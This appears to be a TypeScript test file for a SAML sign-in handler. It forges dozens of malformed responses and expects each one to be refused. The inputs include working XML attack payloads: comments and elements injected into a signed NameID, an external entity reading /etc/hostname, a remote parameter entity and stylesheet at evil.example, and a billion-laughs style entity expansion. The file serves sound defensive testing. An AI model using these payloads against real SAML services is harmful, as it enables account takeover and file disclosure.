import { expect, test } from "vitest";
import { assertionXml, encoded, responseXml, spaces } from "#lib/testing/saml-response.ts";
import { type Forge, samlStage } from "./testing-saml.ts";

const { attempt, victim } = await samlStage();

const doctype = (inside: string, name = "samlp:Response") => `<!DOCTYPE ${name} [${inside}]>`;
const inNameId =
  (inserted: string): Forge =>
  ({ good, saying }) =>
    good.replace(`>${saying.name_id}</saml:NameID>`, `>${saying.name_id.replace("@", `${inserted}@`)}</saml:NameID>`);

/** Where a response may hold anything. */
const detailed =
  (inserted: string): Forge =>
  ({ good }) =>
    good.replace("</samlp:Status>", `<samlp:StatusDetail>${inserted}</samlp:StatusDetail></samlp:Status>`);

/** What isn't the one form of a response that providers need. Nothing of it was signed by anybody else. */
const forms: Record<string, Forge> = {
  "a comment in the NameID": inNameId("<!---->"),
  "a comment in the NameID that was signed": ({ signedWith, saying }) =>
    signedWith({ name_id: `<saml:NameID>${saying.name_id}<!-- -->.evil.example</saml:NameID>` }),
  "an instruction in the NameID": inNameId("<?x y?>"),
  "a section in the NameID": inNameId("<![CDATA[]]>"),
  "an element in the NameID": ({ signedWith }) =>
    signedWith({ name_id: `<saml:NameID>${victim}<x xmlns="urn:x">.evil.example</x></saml:NameID>` }),
  "a comment in an address": ({ good }) =>
    good.replace("@first.example</saml:AttributeValue>", "<!-- -->@first.example</saml:AttributeValue>"),
  "a comment before the response": ({ good }) => `<!-- x -->${good}`,
  "an instruction before the response": ({ good }) => `<?xml-stylesheet href="https://evil.example/x.xsl"?>${good}`,
  "a document type": ({ good }) => `<!DOCTYPE samlp:Response>${good}`,
  "an entity": ({ good }) =>
    doctype(`<!ENTITY who "${victim}">`) + good.replace(/(<saml:NameID[^>]*>)[^<]*/, "$1&who;"),
  "an external entity": ({ good }) =>
    doctype('<!ENTITY who SYSTEM "file:///etc/hostname">') + good.replace(/(<saml:NameID[^>]*>)[^<]*/, "$1&who;"),
  "a parameter entity": ({ good }) => doctype('<!ENTITY % p SYSTEM "https://evil.example/x.dtd"> %p;') + good,
  "entities that grow": ({ good }) =>
    doctype(
      ['<!ENTITY e0 "ha">', ...[...Array(30).keys()].map((at) => `<!ENTITY e${at + 1} "&e${at};&e${at};">`)].join(""),
    ) + good.replace(/(<saml:NameID[^>]*>)[^<]*/, "$1&e30;"),
  "a default for an attribute": ({ good }) => doctype('<!ATTLIST saml:Assertion ID CDATA "_x">') + good,
  "an entity that nobody declared": ({ good }) => good.replace(/(<saml:NameID[^>]*>)/, "$1&who;"),
  "UTF-16": ({ good }) => ({ response: encoded(Buffer.from(`\uFEFF${good}`, "utf16le")) }),
  "another encoding by its name": ({ good }) => `<?xml version="1.0" encoding="UTF-7"?>${good}`,
  "XML 1.1": ({ good }) => `<?xml version="1.1"?>${good}`,
  "a mark of its byte order": ({ good }) => `\uFEFF${good}`,
  "bytes that aren't UTF-8": ({ good }) => ({
    response: encoded(
      Buffer.concat([
        Buffer.from(good.replace("</samlp:Response>", "")),
        Buffer.from([0xc0, 0xaf]),
        Buffer.from("</samlp:Response>"),
      ]),
    ),
  }),
  "no base64": ({ good }) => ({ response: good }),
  "base64 for addresses": ({ good }) => ({
    response: `${encoded(good).replaceAll("+", "-").replaceAll("/", "_")}-_-_`,
  }),
  "base64 with something between": ({ good }) => ({ response: encoded(good).replace(/.{40}/, "$&!!!!") }),
  nothing: () => ({ response: "" }),
  "half of it": ({ good }) => good.slice(0, good.length / 2),
  "text after it": ({ good }) => `${good}x`,
  "a second one after it": ({ good }) => good + good,
  JSON: () => '{"Response":{}}',
  "a page": () => "<!doctype html><p>Sign in</p>",
  "an attribute twice": ({ good }) => good.replace('ID="_assertion"', 'ID="_assertion" ID="_evil"'),
  "a prefix that nobody declared": detailed("<x:y/>"),
  "a prefix that every object has": detailed("<toString:y/>"),
  "an attribute with a prefix that nobody declared": detailed('<y xmlns="urn:x" x:y=""/>'),
  "an attribute with a prefix that every object has": detailed('<y xmlns="urn:x" toString:y=""/>'),
  "an element without a namespace": detailed("<y/>"),
  "5,000 declarations of namespaces": detailed(
    `<y xmlns="urn:x" ${[...Array(5000).keys()].map((at) => `xmlns:a${at}="u"`).join(" ")}/>`,
  ),
  "more than 256 KiB": ({ good }) => good.replace("</samlp:Response>", `${" ".repeat(256 * 1024)}</samlp:Response>`),
  "elements 50,000 deep": ({ good }) => good.replace("<samlp:Status>", `${"<a>".repeat(50_000)}<samlp:Status>`),
  "elements 100 deep": detailed(`<a xmlns="urn:x">${"<a>".repeat(100)}${"</a>".repeat(100)}</a>`),
  "30,000 elements": detailed(`<a xmlns="urn:x">${"<a/>".repeat(30_000)}</a>`),
  "an assertion of SAML 1.1": ({ good }) => good.replaceAll(spaces.saml, "urn:oasis:names:tc:SAML:1.0:assertion"),
  "a response of another namespace": ({ good }) =>
    good.replaceAll(spaces.samlp, "urn:oasis:names:tc:SAML:1.0:protocol"),
  "an assertion alone": ({ assertion }) => assertion,
  "the answer to signing out": ({ good }) => good.replaceAll("samlp:Response", "samlp:LogoutResponse"),
  "a request": ({ saying }) =>
    `<samlp:AuthnRequest xmlns:samlp="${spaces.samlp}" ID="_x" Version="2.0" Destination="${saying.acs_url}"/>`,
  "no assertion": ({ parts }) => responseXml(parts, ""),
  "an extension": ({ good }) => good.replace("<samlp:Status>", "<samlp:Extensions/><samlp:Status>"),
  "another version": ({ good }) => good.replace('Version="2.0"', 'Version="3.0"'),
  "an assertion of another version": ({ signedWith }) =>
    signedWith({ assertion_attributes: `Version="1.1" IssueInstant="${new Date().toISOString()}"` }),
  "two NameIDs": ({ signedWith, parts }) =>
    signedWith({ name_id: `${parts.name_id}<saml:NameID>${victim}</saml:NameID>` }),
  "no NameID": ({ signedWith }) => signedWith({ name_id: "" }),
  "two confirmations": ({ signedWith, parts }) => signedWith({ confirmation: parts.confirmation.repeat(2) }),
  "another confirmation than by bringing it": ({ signedWith, parts }) =>
    signedWith({ confirmation: parts.confirmation.replace("cm:bearer", "cm:sender-vouches") }),
  "no status": ({ parts, assertion }) => responseXml({ ...parts, status: "" }, assertion),
  "two statuses": ({ parts, assertion }) => responseXml({ ...parts, status: parts.status.repeat(2) }, assertion),
  "an advice": ({ signedWith, parts }) => signedWith({ conditions: `${parts.conditions}<saml:Advice/>` }),
  "a condition that nobody knows": ({ signedWith, parts }) =>
    signedWith({ conditions: parts.conditions.replace("</saml:Conditions>", "<saml:Condition/></saml:Conditions>") }),
};

test.each(Object.entries(forms))("signs nobody in with %s", async (_, forge) => {
  expect(await attempt(forge)).toEqual({ outcome: "saml_form", status: 303, session: null });
});

test("accepts anything declared in the status", async () => {
  const forge = detailed('<y xmlns="urn:x" xmlns:x="urn:x" x:y="" xml:lang="en"><x:y/></y>');
  expect((await attempt(forge)).outcome).toBe("ok");
});

test("refuses an encrypted assertion in words", async () => {
  const encrypted = `<saml:EncryptedAssertion><xenc:EncryptedData xmlns:xenc="http://www.w3.org/2001/04/xmlenc#"/></saml:EncryptedAssertion>`;
  expect((await attempt(({ parts }) => responseXml(parts, encrypted))).outcome).toBe("saml_encrypted");
  expect((await attempt(({ parts, assertion }) => responseXml(parts, assertion + encrypted))).outcome).toBe(
    "saml_encrypted",
  );
});

test("what a provider answers without a sign-in is said as such, signed or not", async () => {
  const failed = `<samlp:Status><samlp:StatusCode Value="urn:oasis:names:tc:SAML:2.0:status:Responder"><samlp:StatusCode Value="urn:oasis:names:tc:SAML:2.0:status:Success"/></samlp:StatusCode></samlp:Status>`;
  expect((await attempt(({ parts }) => responseXml({ ...parts, status: failed }, ""))).outcome).toBe("saml_status");
  expect((await attempt(({ good, parts }) => good.replace(parts.status, failed))).outcome).toBe("saml_status");
  const two = failed.replace(
    "<samlp:StatusCode",
    '<samlp:StatusCode Value="urn:oasis:names:tc:SAML:2.0:status:Success"/><samlp:StatusCode',
  );
  expect((await attempt(({ parts }) => responseXml({ ...parts, status: two }, assertionXml(parts)))).outcome).toBe(
    "saml_form",
  );
});
